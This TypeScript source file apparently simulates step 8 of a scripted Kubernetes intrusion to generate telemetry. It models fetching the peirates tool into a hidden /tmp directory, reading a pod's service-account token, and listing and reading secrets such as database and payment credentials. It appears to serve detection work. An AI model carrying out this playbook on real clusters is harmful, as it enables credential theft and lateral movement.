import { type ApiCall, callApi, type World } from '../api.ts'
import type { Pod } from '../cluster-model.ts'
import type { Process } from '../processes.ts'
import { connect, end, read, run, start, tokenPath } from '../runtime.ts'
import { MS_US, SECOND_US } from '../timeline.ts'
import { curl } from './attack-foothold.ts'
import { enterCart, tryCartToken } from './attack-pivot.ts'
import { API_SERVER, GITHUB_IP } from './indicators.ts'
import { EMBEDDED_KUBECTL, embeddedKubectl, MOUNT, tokenClient } from './stolen-token.ts'
import { at, attackStep, type Cast } from './story.ts'

/** Step 8: the service account's token, enumeration with curl and peirates, secrets. */

const BEARER = ['-H', 'Authorization: Bearer *****']

/** User agents: of Debian's curl, of Go's HTTP client as peirates uses it, and of the kubectl that peirates carries in itself. */
const CURL = 'curl/8.5.0'

const GO_HTTP = 'Go-http-client/1.1'

/** Fetches peirates into a hidden directory. */
function fetchPeirates(world: World, shell: Process): void {
  const step = attackStep(world, 8, 'fetch-peirates')
  const url = 'https://github.com/inguardians/peirates/releases/download/v1.1.28/peirates-linux-amd64.tar.xz'
  curl(
    step,
    shell,
    at('10:10'),
    ['-fsSL', '-o', '/tmp/.x/p.tar.xz', url],
    { ip: GITHUB_IP, port: 443 },
    { lasts_us: 6 * SECOND_US }
  )
  const tar = start(step, shell, at('10:18'), {
    binary: '/usr/bin/tar',
    args: ['-xJf', '/tmp/.x/p.tar.xz', '-C', '/tmp/.x', '--strip-components=1']
  })
  run(step, tar, at('10:18.004'), { binary: '/usr/bin/xz', args: ['-d'], lasts_us: 700 * MS_US })
  end(step, tar, at('10:18.720'))
  run(step, shell, at('10:21'), { binary: '/usr/bin/chmod', args: ['+x', '/tmp/.x/peirates'] })
}

/** One request with curl: the process, its connection, and what the API server saw. */
function curlApi(world: World, shell: Process, when: string, pod: Pod, path: string, call: ApiCall): void {
  const step = attackStep(world, 8, `curl/${when}`)
  const method = call.verb === 'create' ? ['-X', 'POST', '-H', 'Content-Type: application/json', '-d', '@-'] : []
  const args = ['-sk', '--cacert', `${MOUNT}/ca.crt`, ...BEARER, ...method, `https://${API_SERVER.ip}${path}`]
  curl(step, shell, at(when), args, API_SERVER)
  callApi(step, at(when) + 40 * MS_US, tokenClient(pod, pod, CURL), call)
}

/** The token is read and tried with curl. */
function tryToken(world: World, shell: Process, pod: Pod): void {
  const step = attackStep(world, 8, 'token')
  const path = `${MOUNT}/token`
  const cat = run(step, shell, at('10:40'), { binary: '/usr/bin/cat', args: [path] })
  read(step, cat, at('10:40.001'), tokenPath(pod))
  run(step, shell, at('10:43'), { binary: '/usr/bin/cat', args: [`${MOUNT}/namespace`] })
  const own = pod.namespace
  curlApi(world, shell, '10:50', pod, `/api/v1/namespaces/${own}/pods`, {
    verb: 'list',
    resource: 'pods',
    namespace: own
  })
  curlApi(world, shell, '10:55', pod, `/api/v1/namespaces/${own}/secrets`, {
    verb: 'list',
    resource: 'secrets',
    namespace: own
  })
  curlApi(world, shell, '11:01', pod, '/api/v1/nodes', { verb: 'list', resource: 'nodes', denied: true })
  curlApi(world, shell, '11:06', pod, '/api/v1/secrets?limit=500', {
    verb: 'list',
    resource: 'secrets',
    query: 'limit=500'
  })
  const review = { kind: 'SelfSubjectRulesReview', apiVersion: 'authorization.k8s.io/v1', metadata: {} }
  const everything = ['pods', 'pods/log', 'pods/exec', 'secrets', 'configmaps', 'services']
  curlApi(world, shell, '11:14', pod, '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', {
    verb: 'create',
    group: 'authorization.k8s.io',
    resource: 'selfsubjectrulesreviews',
    requestObject: {
      ...review,
      spec: { namespace: own },
      status: { resourceRules: null, nonResourceRules: null, incomplete: false }
    },
    responseObject: {
      ...review,
      spec: {},
      status: {
        resourceRules: [
          {
            verbs: ['create'],
            apiGroups: ['authorization.k8s.io'],
            resources: ['selfsubjectaccessreviews', 'selfsubjectrulesreviews']
          },
          { verbs: ['get', 'list', 'watch', 'create', 'delete'], apiGroups: [''], resources: everything },
          { verbs: ['get', 'list'], apiGroups: [''], resources: ['namespaces'] },
          {
            verbs: ['get', 'list', 'watch', 'create', 'update', 'patch', 'delete'],
            apiGroups: ['apps'],
            resources: ['deployments']
          }
        ],
        nonResourceRules: [{ verbs: ['get'], nonResourceURLs: ['/healthz', '/livez', '/readyz', '/version'] }],
        incomplete: false
      }
    }
  })
}

/** peirates asks whether it may, with Go's own HTTP client. */
function mayI(
  world: World,
  peirates: Process,
  when: string,
  pod: Pod,
  verb: string,
  resource: string,
  allowed: boolean
): void {
  const step = attackStep(world, 8, `may-i/${when}`)
  connect(step, peirates, at(when), API_SERVER.ip, API_SERVER.port)
  const attributes = { namespace: pod.namespace, verb, resource }
  const review = {
    kind: 'SelfSubjectAccessReview',
    apiVersion: 'authorization.k8s.io/v1',
    metadata: {},
    spec: { resourceAttributes: attributes }
  }
  callApi(step, at(when) + 9 * MS_US, tokenClient(pod, pod, GO_HTTP), {
    verb: 'create',
    group: 'authorization.k8s.io',
    resource: 'selfsubjectaccessreviews',
    requestObject: { ...review, status: { allowed: false } },
    responseObject: { ...review, status: { allowed } }
  })
}

interface Listing {
  readonly when: string
  readonly words: readonly string[]
  readonly call: ApiCall
}

const LISTINGS: readonly Listing[] = [
  { when: '11:40', words: ['get', 'namespaces', '-o', 'json'], call: { verb: 'list', resource: 'namespaces' } },
  {
    when: '11:46',
    words: ['-n', 'data-science', 'get', 'pods', '-o', 'json'],
    call: { verb: 'list', resource: 'pods', namespace: 'data-science' }
  },
  { when: '11:52', words: ['get', 'pods', '--all-namespaces', '-o', 'json'], call: { verb: 'list', resource: 'pods' } },
  {
    when: '11:58',
    words: ['-n', 'data-science', 'get', 'secrets', '-o', 'json'],
    call: { verb: 'list', resource: 'secrets', namespace: 'data-science' }
  },
  { when: '12:04', words: ['get', 'nodes', '-o', 'json'], call: { verb: 'list', resource: 'nodes', denied: true } },
  {
    when: '12:08',
    words: ['get', 'serviceaccounts', '--all-namespaces'],
    call: { verb: 'list', resource: 'serviceaccounts', denied: true }
  },
  {
    when: '12:12',
    words: ['get', 'clusterroles'],
    call: { verb: 'list', group: 'rbac.authorization.k8s.io', resource: 'clusterroles', denied: true }
  },
  {
    when: '12:16',
    words: ['get', 'clusterrolebindings'],
    call: { verb: 'list', group: 'rbac.authorization.k8s.io', resource: 'clusterrolebindings', denied: true }
  },
  {
    when: '12:20',
    words: ['get', 'daemonsets', '--all-namespaces'],
    call: { verb: 'list', group: 'apps', resource: 'daemonsets', denied: true }
  },
  {
    when: '12:26',
    words: ['get', 'secrets', '--all-namespaces', '-o', 'json'],
    call: { verb: 'list', resource: 'secrets' }
  },
  {
    when: '12:32',
    words: ['-n', 'kube-system', 'get', 'secrets', '-o', 'json'],
    call: { verb: 'list', resource: 'secrets', namespace: 'kube-system' }
  },
  {
    when: '12:38',
    words: ['-n', 'shop', 'get', 'secret', 'db-credentials', '-o', 'json'],
    call: { verb: 'get', resource: 'secrets', namespace: 'shop', name: 'db-credentials' }
  },
  {
    when: '12:42',
    words: ['-n', 'shop', 'get', 'secret', 'cart-payment-api', '-o', 'json'],
    call: { verb: 'get', resource: 'secrets', namespace: 'shop', name: 'cart-payment-api' }
  },
  {
    when: '12:46',
    words: ['-n', 'shop', 'get', 'secret', 'registry-pull', '-o', 'json'],
    call: { verb: 'get', resource: 'secrets', namespace: 'shop', name: 'registry-pull' }
  },
  {
    when: '12:50',
    words: ['-n', 'monitoring', 'get', 'secret', 'grafana-admin', '-o', 'json'],
    call: { verb: 'get', resource: 'secrets', namespace: 'monitoring', name: 'grafana-admin' }
  },
  {
    when: '12:54',
    words: ['-n', 'ci', 'get', 'secret', 'runner-registration', '-o', 'json'],
    call: { verb: 'get', resource: 'secrets', namespace: 'ci', name: 'runner-registration' }
  }
]

/** peirates: may-I questions, then everything it can list, then the secrets it can read. */
function runPeirates(world: World, shell: Process, pod: Pod): Process {
  const step = attackStep(world, 8, 'peirates')
  const peirates = start(step, shell, at('11:28'), { binary: '/tmp/.x/peirates', cwd: '/tmp/.x' })
  read(step, peirates, at('11:28.020'), tokenPath(pod))
  mayI(world, peirates, '11:30', pod, 'get', 'pods', true)
  mayI(world, peirates, '11:32', pod, 'list', 'secrets', true)
  mayI(world, peirates, '11:34', pod, 'list', 'nodes', false)
  const client = tokenClient(pod, pod, EMBEDDED_KUBECTL)
  for (const [place, { when, words, call }] of LISTINGS.entries()) {
    const labelled = attackStep(world, 8, `listing/${when}`)
    embeddedKubectl(world, peirates, 8, when, words, 300 * MS_US, call.denied === true)
    // the first kubectl asks which kinds there are, later ones have that in their cache
    if (place === 0)
      for (const path of ['/api', '/apis']) callApi(labelled, at(when) + 50 * MS_US, client, { verb: 'get', path })
    callApi(labelled, at(when) + 90 * MS_US, client, call)
  }
  return peirates
}

/** Step 8 as a whole. @returns the peirates process, which step 12 uses again */
export function exploreCluster(world: World, shell: Process, cast: Cast): Process {
  fetchPeirates(world, shell)
  tryToken(world, shell, cast.notebook)
  const peirates = runPeirates(world, shell, cast.notebook)
  enterCart(world, peirates, cast)
  tryCartToken(world, peirates, cast)
  return peirates
}
